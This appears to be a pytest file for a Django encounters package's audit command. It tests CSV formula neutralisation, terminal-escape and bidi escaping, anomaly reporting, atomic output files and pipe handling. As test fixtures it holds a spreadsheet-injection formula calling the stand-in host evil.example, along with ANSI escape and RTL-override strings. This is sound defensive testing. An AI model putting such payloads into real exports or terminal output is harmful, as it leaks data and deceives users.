"""What the audit writes, seen from the outside: CSV cells a spreadsheet would run as formulas
are neutralised, table cells cannot drive the terminal, anomalies that belong to no listed row
still get a CSV line, ``| head`` ends the command quietly (a real shell pipe), an unknown
``--encounter`` is refused before anything is written, and ``--output`` never holds half a
report. Every test runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command

from django_encounters.exceptions import EncounterNotFoundError
from django_encounters.models import Encounter, EncounterDefinition
from django_encounters.projections.audit import iter_audit
from django_encounters.projections.checkpoints import write_checkpoint
from django_encounters.projections.rebuild import rebuild_projections
from django_encounters.projections.rendering import CSV_HEADER, FORMULA_STARTS, csv_cell
from django_encounters.services import create_encounter, transition
from tests.helpers import IS_POSTGRES, delete_encounter, delete_rows, raw_update, run_command

ROOT = Path(__file__).resolve().parent.parent


def unescape(cell: str) -> str:
    """What a program reading the CSV does: drop one leading apostrophe."""
    return cell[1:] if cell.startswith("'") else cell


# ---------------------------------------------------------------------------------------------
# CSV: formulas neutralised
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(patient):
    states = ["=start", "+next", "-later", "@end", "'quoted", "plain"]
    definition = EncounterDefinition.objects.create(
        name="Formulas",
        code="=DEF",
        states=states,
        initial_state="=start",
        final_states=["plain"],
        transitions={a: [b] for a, b in zip(states, states[1:], strict=False)},
    )
    user = User.objects.create_user(username="@admin")
    encounter = create_encounter(definition, patient)
    reasons = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "\tcmd",
        "\rsplit",
        "-2",
    ]
    for state, reason in zip(states[1:], reasons, strict=True):
        transition(encounter, state, transitioned_by=user, reason=reason)

    code, out, err = run_command("audit_encounters", "--format", "csv")

    # Issue 19: a CSV's first line is its header: the seals note goes to stderr.
    assert (code, err) == (0, "Seals: not checked (ENCOUNTERS_SEAL_KEYS is not set)\n")
    lines = list(csv.reader(io.StringIO(out)))
    assert lines[0] == CSV_HEADER
    records = [dict(zip(CSV_HEADER, line, strict=True)) for line in lines[1:]]
    assert len(records) == 5
    for record in records:
        for cell in record.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    first = records[0]
    assert (first["definition"], first["from_state"], first["to_state"]) == (
        "'=DEF",
        "'=start",
        "'+next",
    )
    assert first["transitioned_by"] == "'@admin"
    assert first["state_as_of"] == "plain"  # nothing to neutralise: unchanged
    assert [unescape(r["reason"]) for r in records] == reasons
    assert [unescape(r["to_state"]) for r in records] == states[1:]
    assert records[3]["to_state"] == "''quoted"  # an apostrophe is escaped too: reversible
    assert records[4]["reason"] == "'-2"
    # JSON keeps the text as it is.
    data = json.loads(run_command("audit_encounters", "--format", "json")[1])
    assert [row["reason"] for row in data["encounters"][0]["timeline"]] == reasons


def test_csv_cell_rule():
    for start in FORMULA_STARTS:
        assert csv_cell(start + "x") == "'" + start + "x"
    assert csv_cell("x=1") == "x=1"
    assert csv_cell("") == ""
    assert csv_cell(5) == 5


# ---------------------------------------------------------------------------------------------
# Table: stored text cannot drive the terminal
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_table_escapes_control_and_bidi_characters(encounter):
    user = User.objects.create_user(username="eve\x1b[2J")
    transition(encounter, "checked_in", transitioned_by=user, reason="ok\x1b[1A\x08\x08 hidden")
    transition(encounter, "cancelled", reason="refund \u202eevil\u202c done")

    code, out, _ = run_command("audit_encounters")

    assert code == 0
    assert "\x1b" not in out and "\u202e" not in out and "\x08" not in out
    assert "eve\\x1b[2J" in out
    assert "ok\\x1b[1A\\x08\\x08 hidden" in out
    assert "refund \\u202eevil\\u202c done" in out
    data = json.loads(run_command("audit_encounters", "--format", "json")[1])
    assert data["encounters"][0]["timeline"][0]["transitioned_by"] == "eve\x1b[2J"


# ---------------------------------------------------------------------------------------------
# Anomalies that belong to no listed row
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_csv_lists_anomalies_that_belong_to_no_row(visit_definition, patient, tmp_path):
    """The genesis (sequence 0), a row gone from the log, an encounter gone altogether: each
    gets a line of its own with the encounter, the sequence and the anomalies."""
    changed = create_encounter(visit_definition, patient)
    raw_update(Encounter, changed.pk, origin_state="checked_in")  # a genesis anomaly
    cut = create_encounter(visit_definition, patient)
    for state in ("checked_in", "in_progress", "completed"):
        transition(cut, state)
    doomed = create_encounter(visit_definition, patient)
    write_checkpoint(tmp_path / "cp.json")
    delete_rows(cut, 3)  # truncated at 3
    delete_encounter(doomed)

    code, out, _ = run_command(
        "audit_encounters", "--format", "csv", "--against", str(tmp_path / "cp.json")
    )

    assert code == 1
    records = [dict(zip(CSV_HEADER, line, strict=True)) for line in csv.reader(io.StringIO(out))]
    flagged = {
        (r["encounter_id"], r["sequence"]): r["anomalies"] for r in records[1:] if r["anomalies"]
    }
    assert flagged[(str(changed.pk), "0")].startswith("genesis: ")
    assert flagged[(str(cut.pk), "3")].startswith("truncated: ")
    assert "; truncated: the log ends at row 2" in flagged[(str(cut.pk), "3")]  # checkpoint
    assert flagged[(str(doomed.pk), "0")].startswith("missing: the encounter is gone")
    own_line = next(r for r in records[1:] if r["encounter_id"] == str(doomed.pk))
    assert [own_line[c] for c in CSV_HEADER[1:] if c not in ("sequence", "anomalies")] == [""] * (
        len(CSV_HEADER) - 3
    )
    cut_rows = [r["sequence"] for r in records[1:] if r["encounter_id"] == str(cut.pk)]
    assert cut_rows == ["1", "2", "3"]  # two rows, then the anomaly's own line


# ---------------------------------------------------------------------------------------------
# --encounter with an id that does not exist
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_unknown_encounter_id_is_refused_before_anything_is_written(encounter, tmp_path):
    ghost = uuid.uuid4()
    transition(encounter, "checked_in")
    raw_update(Encounter, encounter.pk, state="scheduled")  # drift a rebuild would fix
    report = tmp_path / "audit.txt"

    for fmt in ("table", "csv", "json"):
        code, out, err = run_command(
            "audit_encounters",
            *("--encounter", str(encounter.pk), "--encounter", str(ghost)),
            *("--format", fmt, "--output", str(report)),
        )
        assert code == 2 and out == ""
        assert f"--encounter {ghost}: no encounter has this id" in err
        assert not report.exists() and os.listdir(tmp_path) == []
    for check in ([], ["--check"]):
        code, out, err = run_command(
            "rebuild_encounter_projections",
            *("--encounter", str(encounter.pk), "--encounter", str(ghost), *check),
        )
        assert code == 2 and out == ""
        assert f"--encounter {ghost}: no encounter has this id" in err
    assert Encounter.objects.get(pk=encounter.pk).state == "scheduled"  # nothing was fixed
    with pytest.raises(EncounterNotFoundError) as missing:
        iter_audit(encounters=[ghost])
    assert missing.value.encounter_id == ghost
    with pytest.raises(EncounterNotFoundError):
        rebuild_projections(encounters=[str(ghost)])
    # A soft-deleted encounter exists: it is audited and rebuilt.
    encounter.delete()
    assert run_command("audit_encounters", "--encounter", str(encounter.pk))[0] == 0
    assert run_command("rebuild_encounter_projections", "--encounter", str(encounter.pk))[0] == 0
    assert Encounter.all_objects.get(pk=encounter.pk).state == "checked_in"


# ---------------------------------------------------------------------------------------------
# --output: the whole report or nothing
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_output_file_is_replaced_only_by_a_complete_report(encounter, tmp_path, monkeypatch):
    from django_encounters.projections import output

    report = tmp_path / "audit.json"
    assert run_command("audit_encounters", "--format", "json", "--output", str(report))[0] == 0
    complete = report.read_text()
    assert json.loads(complete)["encounters"][0]["id"] == str(encounter.pk)
    mask = os.umask(0)
    os.umask(mask)
    assert report.stat().st_mode & 0o777 == 0o666 & ~mask  # as open() would create it

    def broken(audits, out, **kwargs):
        out.write('{\n  "encounters": [')
        raise RuntimeError("the database went away")

    json_format = output.get_format("audit", "json")
    monkeypatch.setitem(
        output._REGISTRY, json_format.key, dataclasses.replace(json_format, write=broken)
    )
    with pytest.raises(RuntimeError, match="went away"):
        call_command("audit_encounters", "--format", "json", "--output", str(report))

    assert report.read_text() == complete
    assert os.listdir(tmp_path) == ["audit.json"]  # no temporary file left behind


# ---------------------------------------------------------------------------------------------
# `audit_encounters | head`: a real shell pipe
# ---------------------------------------------------------------------------------------------

DRIVER = """
import os, sys
sys.path.insert(0, {root!r})
os.environ["DJANGO_SETTINGS_MODULE"] = "tests.settings"
import django
django.setup()
from django.core.management import execute_from_command_line
from django.db import connection
old_name = connection.settings_dict["NAME"]
connection.creation.create_test_db(verbosity=0, autoclobber=True, serialize=False)
try:
    from django_encounters.models import EncounterDefinition
    from django_encounters.services import create_encounter, transition
    from tests.testapp.models import Patient

    counter = EncounterDefinition.objects.create(
        name="Counter", code="COUNTER", states=["open", "closed"], initial_state="open",
        final_states=["closed"], transitions={{"open": ["open", "closed"]}},
    )
    encounter = create_encounter(counter, Patient.objects.create(name="P"))
    for n in range({rows}):
        transition(encounter, "open", reason=f"tick {{n}} " + "x" * 40)
    execute_from_command_line(["manage.py", *sys.argv[1:]])
finally:
    connection.creation.destroy_test_db(old_name, verbosity=0)
"""


def _driver_env(tmp_path: Path, rows: int, name: str) -> dict[str, str]:
    """Write ``DRIVER`` (an encounter with ``rows`` rows) into ``tmp_path``; the environment
    for a shell that runs it as ``"$PY" "$DRIVER" COMMAND…``, on a test database of its own
    (``name`` keeps the PostgreSQL database names of the runs apart)."""
    driver = tmp_path / "driver.py"
    driver.write_text(textwrap.dedent(DRIVER.format(root=str(ROOT), rows=rows)))
    env = dict(os.environ)
    env["ENCOUNTERS_TEST_DB"] = "postgres" if IS_POSTGRES else "sqlite"
    env["ENCOUNTERS_SQLITE_TEST_PATH"] = str(tmp_path / "pipe.sqlite3")
    env["ENCOUNTERS_TEST_DB_NAME"] = f"test_encounters_pipe_{os.getpid()}_{name}"
    env.update(PY=sys.executable, DRIVER=str(driver))
    return env


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_piping_into_head_exits_quietly(tmp_path, fmt):
    """``audit_encounters | head -1`` in a real shell: the first line, nothing on stderr, and
    the command's own status is 141 (it saw the pipe close: the output is ~150 kB, more than
    a pipe holds), as a Unix tool killed by SIGPIPE would report."""
    env = _driver_env(tmp_path, rows=1000, name=fmt)
    script = (
        f'"$PY" "$DRIVER" audit_encounters --format {fmt} 2>"$ERR" | head -1; '
        'echo "status=${PIPESTATUS[0]}"'
    )
    env["ERR"] = str(tmp_path / "stderr.txt")

    done = subprocess.run(
        ["bash", "-c", script], capture_output=True, text=True, env=env, timeout=300, cwd=ROOT
    )

    assert done.returncode == 0
    assert done.stderr == ""
    # No traceback, no "Exception ignored"; the CSV's note on seals (its first line is the
    # header), the table's is its first line.
    assert (tmp_path / "stderr.txt").read_text() == (
        "Seals: not checked (ENCOUNTERS_SEAL_KEYS is not set)\n" if fmt == "csv" else ""
    )
    first, status = done.stdout.splitlines()
    if fmt == "table":
        assert first == "Seals: not checked (ENCOUNTERS_SEAL_KEYS is not set)"
    else:
        assert first == ",".join(CSV_HEADER)
    assert status == "status=141"


def test_a_complete_run_into_a_pipe_is_unaffected(tmp_path):
    """The same pipe, read to the end: status 0 and the whole report."""
    env = _driver_env(tmp_path, rows=3, name="all")

    done = subprocess.run(
        ["bash", "-c", '"$PY" "$DRIVER" audit_encounters | cat; echo "status=${PIPESTATUS[0]}"'],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        cwd=ROOT,
    )

    assert done.stderr == ""
    lines = done.stdout.splitlines()
    assert lines[-1] == "status=0"
    assert lines[-2].startswith("1 encounter(s), 3 row(s), 0 anomalies")


@pytest.mark.django_db
def test_a_closed_stream_that_is_not_stdout_is_an_ordinary_error(encounter):
    class Closed(io.StringIO):
        def write(self, text):
            raise BrokenPipeError(32, "Broken pipe")

    with pytest.raises(BrokenPipeError):
        call_command("audit_encounters", stdout=Closed())
